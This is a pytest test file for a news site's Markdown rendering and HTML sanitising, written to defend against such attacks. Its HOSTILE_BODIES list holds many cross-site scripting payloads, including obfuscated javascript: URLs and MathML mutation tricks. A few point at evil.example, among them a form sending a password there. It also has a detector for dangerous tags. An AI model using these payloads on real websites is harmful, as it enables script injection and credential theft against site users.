"""Markdown rendering and sanitising: hostile bodies lose every executable part, ordinary
Markdown keeps its structure, and the plain-text extract reads like the article.

`HOSTILE_BODIES` and `executable_markup` are shared with the end-to-end tests in
tests/publishing/test_body_sanitising.py.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from typing import NamedTuple

import pytest

from broadsheet.lib.rendering import (
    html_to_text,
    render_article_markdown,
    render_comment_markdown,
    sanitise_article_html,
)

OPENING = "The ferry timetable changes on Monday."
CLOSING = "Councillors vote on the harbour budget in March."

# Tags that can run code, load other documents, restyle or redirect the page, or take input.
DANGEROUS_TAGS = frozenset(
    {
        "script", "style", "svg", "math", "iframe", "frame", "frameset", "object", "embed",
        "applet", "form", "input", "button", "textarea", "select", "base", "meta", "link",
        "details", "template", "noscript",
    }
)  # fmt: skip
URL_ATTRIBUTES = frozenset(
    {"href", "src", "cite", "action", "formaction", "data", "poster", "background", "srcset"}
)
BAD_SCHEMES = ("javascript:", "data:", "vbscript:")
RAW_DANGEROUS_TAG = re.compile(
    r"<\s*/?\s*(script|style|svg|math|iframe|object|embed|form|input|base|meta|link)\b", re.I
)


class _Inspector(HTMLParser):
    """Lists every executable or page-altering thing in an HTML fragment."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in DANGEROUS_TAGS:
            self.problems.append(f"<{tag}> element")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"{name} event attribute on <{tag}>")
            if name == "srcdoc":
                self.problems.append(f"srcdoc on <{tag}>")
            if name in URL_ATTRIBUTES and _browser_url(value).startswith(BAD_SCHEMES):
                self.problems.append(f"{name}={value!r} on <{tag}>")
            if name == "style" and not (
                tag in {"td", "th"} and re.fullmatch(r"text-align:(left|center|right)", value)
            ):
                self.problems.append(f"style={value!r} on <{tag}>")

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.problems.append(f"declaration {decl!r}")

    def handle_pi(self, data: str) -> None:
        self.problems.append(f"processing instruction {data!r}")


def _browser_url(value: str) -> str:
    # What a browser makes of an attribute's URL: outer spaces and controls dropped, tabs
    # and newlines removed anywhere, scheme compared case-insensitively.
    stripped = value.strip("".join(chr(c) for c in range(0x21)))
    return re.sub(r"[\t\n\r]", "", stripped).lower()


def executable_markup(fragment: str) -> list[str]:
    """Everything in `fragment` that could run script or change the page; [] when safe."""
    inspector = _Inspector()
    inspector.feed(fragment)
    inspector.close()
    problems = inspector.problems
    problems += [f"raw {m.group(0)!r}" for m in RAW_DANGEROUS_TAG.finditer(fragment)]
    return problems


class Hostile(NamedTuple):
    payload: str
    # Harmless words that must still be in the output (beyond OPENING, always checked).
    survivors: tuple[str, ...] = (CLOSING,)


def _link(payload: str) -> Hostile:
    # The link goes; the words the editor linked stay readable.
    return Hostile(payload, survivors=("tide tables", CLOSING))


def _wrapping(payload: str) -> Hostile:
    return Hostile(payload, survivors=("moorings", CLOSING))


def body_around(payload: str) -> str:
    return f"{OPENING}\n\n{payload}\n\n{CLOSING}"


_SVG_DATA = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="
_HTML_DATA = "PHA+ZmFrZSBsb2dpbjwvcD48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+"

HOSTILE_BODIES: dict[str, Hostile] = {
    "script element": Hostile("<script>alert(1)</script>"),
    "img onerror": Hostile("<img src=x onerror=alert(1)>"),
    "a javascript href": _link('<a href="javascript:alert(1)">tide tables</a>'),
    "mixed-case scheme": _link('<a href="JaVaScRiPt:alert(1)">tide tables</a>'),
    "mixed-case Markdown link": _link("[tide tables](JaVaScRiPt:alert(1))"),
    "tab entity inside scheme": _link('<a href="java&#x09;script:alert(1)">tide tables</a>'),
    "decimal entity for j": _link('<a href="&#106;avascript:alert(1)">tide tables</a>'),
    "named entity colon": _link('<a href="javascript&colon;alert(1)">tide tables</a>'),
    "whitespace-prefixed scheme": _link('<a href=" javascript:alert(1)">tide tables</a>'),
    "newline-prefixed scheme": _link('<a href="&#10;javascript:alert(1)">tide tables</a>'),
    "Markdown link": _link("Read the [tide tables](javascript:alert(1)) first."),
    "Markdown link with spaces": _link("Read the [tide tables](  javascript:alert(1)) first."),
    "Markdown link in angle brackets": _link("[tide tables](<javascript:alert(1)>)"),
    "Markdown image javascript": Hostile("![a gull](javascript:alert(1))"),
    "Markdown image svg data": Hostile(f"![a gull](data:image/svg+xml;base64,{_SVG_DATA})"),
    "Markdown image png data": Hostile("![a gull](data:image/png;base64,iVBORw0KGgo=)"),
    "autolink javascript": Hostile("<javascript:alert(1)>"),
    "reference definition": _link("See the [tide tables][t].\n\n[t]: javascript:alert(1)"),
    "reference definition with title": _link(
        'See the [tide tables][t].\n\n[t]: <javascript:alert(1)> "Tides"'
    ),
    "reference image definition": Hostile("![a gull][g]\n\n[g]: data:text/html;base64,AAAA"),
    "svg onload": Hostile("<svg onload=alert(1)>"),
    "script inside svg": Hostile("<svg><script>alert(1)</script></svg>"),
    # The unclosed <style> swallows everything after it, in browsers as in the sanitiser,
    # so only the opening paragraph can survive.
    "MathML namespace confusion": Hostile(
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", survivors=()
    ),
    "MathML namespace confusion, closed": Hostile(
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"
        "</style></mglyph></table></mtext></math>"
    ),
    "MathML comment trick": Hostile(
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
        'onerror=alert(1)&gt;">',
        survivors=(),
    ),
    "iframe": Hostile('<iframe src="https://evil.example"></iframe>'),
    "iframe srcdoc": Hostile('<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    "object": Hostile('<object data="https://evil.example/movie.swf"></object>'),
    "embed": Hostile('<embed src="https://evil.example/movie.swf">'),
    "form and input": Hostile(
        '<form action="https://evil.example/collect"><input name="password"></form>'
    ),
    "div with javascript in style": _wrapping(
        '<div style="background:url(javascript:alert(1))">moorings</div>'
    ),
    "paragraph style": _wrapping('<p style="position:fixed;top:0">moorings</p>'),
    "table cell with extra style": _wrapping(
        '<table><tr><td style="text-align:left;background:url(javascript:alert(1))">'
        "moorings</td></tr></table>"
    ),
    "a data href": _link(f'<a href="data:text/html;base64,{_HTML_DATA}">tide tables</a>'),
    "a vbscript href": _link('<a href="vbscript:msgbox(1)">tide tables</a>'),
    "Markdown vbscript link": _link("[tide tables](vbscript:msgbox(1))"),
    "blockquote cite javascript": _wrapping(
        '<blockquote cite="javascript:alert(1)">moorings</blockquote>'
    ),
    "attribute breaking, inline": _link(
        "<a href='x' title=\"a\"onmouseover=alert(1)>tide tables</a>"
    ),
    "attribute breaking, in an HTML block": _link(
        "<div>\n<a href='x' title=\"a\"onmouseover=alert(1)>tide tables</a>\n</div>"
    ),
    "details ontoggle": _wrapping("<details open ontoggle=alert(1)>moorings</details>"),
    "noscript attribute trick": Hostile(
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'
    ),
    "xmp raw text": Hostile("<xmp><img src=x onerror=alert(1)></xmp>"),
    "textarea raw text": Hostile("<textarea><img src=x onerror=alert(1)></textarea>"),
    "template content": Hostile("<template><img src=x onerror=alert(1)></template>"),
    "img srcset": Hostile('<img srcset="javascript:alert(1) 1x" src="/m/a.png">'),
    "video onerror": _wrapping("<video src=x onerror=alert(1)>moorings</video>"),
    "HTML comment": Hostile("<!-- <script>alert(1)</script> -->"),
    "base href": Hostile('<base href="https://evil.example/">'),
    "meta refresh": Hostile('<meta http-equiv="refresh" content="0;url=https://evil.example">'),
    "link import": Hostile('<link rel="import" href="https://evil.example/x.html">'),
}


@pytest.mark.parametrize("hostile", HOSTILE_BODIES.values(), ids=HOSTILE_BODIES.keys())
def test_hostile_markup_renders_without_anything_executable(hostile: Hostile) -> None:
    rendered = render_article_markdown(body_around(hostile.payload))

    assert executable_markup(rendered) == []
    for words in (OPENING, *hostile.survivors):
        assert words in rendered


@pytest.mark.parametrize(
    "fragment",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href="java&#x09;script:alert(1)">x</a>',
        '<a href=" JAVASCRIPT:alert(1)">x</a>',
        '<img src="data:image/svg+xml;base64,AAAA">',
        '<a href="vbscript:msgbox(1)">x</a>',
        '<p style="color:red">x</p>',
        "<svg></svg>",
        "<!-- note -->",
        '<iframe srcdoc="x"></iframe>',
    ],
)
def test_the_inspector_itself_catches_executable_markup(fragment: str) -> None:
    # Guards the guard: if executable_markup() stopped seeing these, every test above
    # would pass for the wrong reason.
    assert executable_markup(fragment) != []


def test_the_inspector_accepts_ordinary_article_markup() -> None:
    fragment = (
        '<p><a href="https://example.org/" rel="noopener">x</a> <img src="/m/a.png" alt="a">'
        '</p><table><tr><td style="text-align:right">1</td></tr></table>'
    )
    assert executable_markup(fragment) == []


# What editors may use.


def test_headings_keep_their_levels() -> None:
    rendered = render_article_markdown("## The vote\n\n### Who turned up\n\n#### Aside")

    assert "<h2>The vote</h2>" in rendered
    assert "<h3>Who turned up</h3>" in rendered
    assert "<h4>Aside</h4>" in rendered


def test_blockquote_and_lists() -> None:
    source = "> The pier will reopen.\n\n- rope\n- tar\n\n3. third\n4. fourth"

    rendered = render_article_markdown(source)

    assert "<blockquote>\n<p>The pier will reopen.</p>\n</blockquote>" in rendered
    assert "<ul>\n<li>rope</li>\n<li>tar</li>\n</ul>" in rendered
    assert '<ol start="3">\n<li>third</li>\n<li>fourth</li>\n</ol>' in rendered


def test_footnote_reference_points_at_its_note() -> None:
    rendered = render_article_markdown("The levy rose twice.[^levy]\n\n[^levy]: In 2019 and 2021.")

    assert '<sup class="footnote-ref"><a href="#body-fn1" id="body-fnref1"' in rendered
    assert '<li id="body-fn1" class="footnote-item"><p>In 2019 and 2021.' in rendered
    assert '<a href="#body-fnref1" class="footnote-backref"' in rendered
    assert '<section class="footnotes">' in rendered


def test_table_keeps_column_alignment() -> None:
    source = "| Ward | Turnout |\n|:-----|--------:|\n| North | 41% |"

    rendered = render_article_markdown(source)

    assert '<th style="text-align:left">Ward</th>' in rendered
    assert '<th style="text-align:right">Turnout</th>' in rendered
    assert '<td style="text-align:right">41%</td>' in rendered


@pytest.mark.parametrize(
    "src", ["https://example.org/gull.jpg", "http://example.org/gull.jpg", "/media/gull.jpg"]
)
def test_images_keep_web_and_relative_sources_and_alt_text(src: str) -> None:
    rendered = render_article_markdown(f'![A gull on the harbour wall]({src} "Morning")')

    assert f'<img src="{src}" alt="A gull on the harbour wall" title="Morning">' in rendered


@pytest.mark.parametrize("src", ["mailto:desk@example.org", "ftp://example.org/gull.jpg"])
def test_images_lose_sources_that_are_not_web_addresses(src: str) -> None:
    rendered = render_article_markdown(f'<img src="{src}" alt="A gull">')

    assert '<img alt="A gull">' in rendered


def test_mailto_links_are_kept_and_links_get_noopener() -> None:
    rendered = render_article_markdown(
        "Write to [the desk](mailto:desk@example.org) or read [the report](https://example.org/r)."
    )

    assert '<a href="mailto:desk@example.org" rel="noopener">the desk</a>' in rendered
    assert '<a href="https://example.org/r" rel="noopener">the report</a>' in rendered


def test_raw_html_links_get_noopener_and_lose_their_own_rel_and_target() -> None:
    rendered = render_article_markdown(
        '<a href="https://example.org/" rel="opener" target="_blank">the report</a>'
    )

    assert '<a href="https://example.org/" rel="noopener">the report</a>' in rendered


def test_raw_html_subset_survives() -> None:
    source = (
        '<figure><img src="/media/pier.jpg" alt="The pier at dusk">'
        "<figcaption>The pier, <mark>before</mark> the storm.</figcaption></figure>\n\n"
        '<p>Press <kbd>Ctrl</kbd>, read H<sub>2</sub>O, see <abbr title="Harbour Board">HB</abbr>.'
        "</p>"
    )

    rendered = render_article_markdown(source)

    assert '<figure><img src="/media/pier.jpg" alt="The pier at dusk">' in rendered
    assert "<figcaption>The pier, <mark>before</mark> the storm.</figcaption>" in rendered
    assert "<kbd>Ctrl</kbd>" in rendered and "H<sub>2</sub>O" in rendered
    assert '<abbr title="Harbour Board">HB</abbr>' in rendered


def test_ids_and_same_page_links_are_prefixed_so_they_cannot_take_over_page_ids() -> None:
    rendered = render_article_markdown(
        '<h2 id="main">Costs</h2>\n\n[Jump to costs](#main) or <a href="#site-search">search</a>'
    )

    assert '<h2 id="body-main">Costs</h2>' in rendered
    assert '<a href="#body-main" rel="noopener">Jump to costs</a>' in rendered
    assert '<a href="#body-site-search" rel="noopener">search</a>' in rendered
    assert 'id="main"' not in rendered


@pytest.mark.parametrize("href", ["#", "#top", "#TOP"])
def test_links_to_the_top_of_the_page_are_left_alone(href: str) -> None:
    rendered = render_article_markdown(f"[Back to the top]({href})")

    assert f'<a href="{href}" rel="noopener">Back to the top</a>' in rendered


def test_classes_other_than_the_footnote_ones_are_dropped() -> None:
    rendered = render_article_markdown(
        '<p><a href="/" class="skip-link preview-banner">home</a> '
        '<sup class="footnote-ref">1</sup></p>'
    )

    assert "skip-link" not in rendered and "preview-banner" not in rendered
    assert '<sup class="footnote-ref">1</sup>' in rendered


def test_sanitising_sanitised_html_changes_nothing() -> None:
    # Imported bodies go through sanitise_article_html alone; rendered ones must be a fixed
    # point, or prefixes would pile up ("body-body-fn1") and links break.
    rendered = render_article_markdown(
        "## Costs\n\nA claim.[^1] [Back](#top)\n\n| a |\n|:-:|\n| b |\n\n[^1]: A source."
    )

    assert sanitise_article_html(rendered) == rendered


def test_sanitise_article_html_cleans_imported_html_directly() -> None:
    cleaned = sanitise_article_html(
        '<p onclick="alert(1)">Harbour <b>dues</b></p><script>alert(1)</script>'
    )

    assert cleaned == "<p>Harbour <b>dues</b></p>"


# Plain text for search and summaries.


def test_html_to_text_keeps_words_whole_and_separates_blocks() -> None:
    text = html_to_text(
        "<h2>Tolls</h2><p>An <em>un</em>usual rise.</p><ul><li>one</li><li>two</li></ul>"
    )

    assert text == "Tolls An unusual rise. one two"


def test_html_to_text_decodes_entities_and_drops_footnote_markers() -> None:
    rendered = render_article_markdown(
        "Fish &amp; chips cost £4 &lt;sic&gt;.[^1]\n\n[^1]: Menu board."
    )

    assert html_to_text(rendered) == "Fish & chips cost £4 <sic>. Menu board."


def test_html_to_text_never_reads_out_scripts_or_styles() -> None:
    text = html_to_text("<p>Tide</p><script>var x = 1;</script><style>p{}</style><p>times</p>")

    assert text == "Tide times"


# Reader comments.


def test_comment_raw_html_is_shown_as_text() -> None:
    rendered = render_comment_markdown("<script>alert(1)</script> and <b>bold</b>")

    assert executable_markup(rendered) == []
    assert "&lt;script&gt;alert(1)&lt;/script&gt; and &lt;b&gt;bold&lt;/b&gt;" in rendered


@pytest.mark.parametrize(
    "source",
    [
        "[x](javascript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "<javascript:alert(1)>",
        "[x](data:text/html,hi)",
    ],
)
def test_comment_links_cannot_carry_script(source: str) -> None:
    assert executable_markup(render_comment_markdown(source)) == []


def test_comment_links_are_marked_user_generated_and_images_are_not_rendered() -> None:
    rendered = render_comment_markdown(
        "See [the minutes](https://example.org/m).\n\n"
        "![a gull](https://example.org/g.jpg)\n\n# Loud"
    )

    assert '<a href="https://example.org/m" rel="nofollow ugc noopener">the minutes</a>' in rendered
    assert "<img" not in rendered and "<h1" not in rendered
